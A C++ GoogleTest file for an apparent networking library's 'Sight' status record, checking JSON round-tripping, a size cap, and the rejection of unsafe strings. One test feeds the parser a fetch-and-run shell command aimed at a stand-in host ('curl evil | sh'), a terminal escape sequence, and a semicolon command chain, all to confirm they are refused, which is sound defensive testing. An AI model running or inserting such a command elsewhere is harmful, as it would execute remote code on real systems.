// SPDX-License-Identifier: Apache-2.0
// What a node tells another of what it sees, there and back; and what is not believed.
#include <gtest/gtest.h>

#include <weft/api/sight.hpp>

namespace weft::api {
namespace {

Sight a_sight() {
    Sight sight;
    sight.version = "0.1.0+g1a2b";
    sight.isa = "avx512ifma";
    sight.interface_mtu = 1420;
    sight.path_mtu = 1328;
    sight.session = "up";
    sight.sent = 20;
    sight.answered = 19;
    sight.rtt_us = 412;
    sight.firewall_drops = 1;
    sight.problems = {"path_mtu", "clock_not_trusted"};
    return sight;
}

TEST(Sight, IsTheSameAfterJson) {
    const std::string text = to_json(a_sight());
    const Result<Sight> back = parse_sight(text);
    ASSERT_TRUE(back) << back.error().message();
    EXPECT_EQ(to_json(*back), text);
    EXPECT_EQ(back->rtt_us, 412U);
    EXPECT_EQ(back->problems.size(), 2U);
}

TEST(Sight, FitsItsMessageWhateverThereIsToSay) {
    Sight most = a_sight();
    most.version = most.isa = most.session = std::string(40, 'x');
    most.interface_mtu = most.path_mtu = most.sent = most.answered = most.firewall_drops = ~0U;
    most.rtt_us = ~0U;
    most.problems.assign(100, std::string(40, 'p'));
    EXPECT_LE(to_json(most).size(), 1'000U);
    ASSERT_TRUE(parse_sight(to_json(most)));
    EXPECT_EQ(parse_sight(to_json(most))->problems.size(), 8U);
    most.problems = {"a b", std::string(41, 'p'), "good"};
    EXPECT_EQ(parse_sight(to_json(most))->problems, std::vector<std::string>{"good"});
}

TEST(Sight, WithWordsThatATerminalWouldObeyIsRefused) {
    for (const char* bad : {R"(curl evil | sh)", R"(\u001b[2J)", R"(„)", "a;b"}) {
        std::string text = to_json(a_sight());
        const std::string good = "avx512ifma";
        text.replace(text.find(good), good.size(), bad);
        EXPECT_FALSE(parse_sight(text)) << text;
    }
    EXPECT_FALSE(parse_sight("{}"));
    EXPECT_FALSE(parse_sight(""));
    EXPECT_FALSE(parse_sight(std::string(1'000, '[')));
}

}  // namespace
}  // namespace weft::api
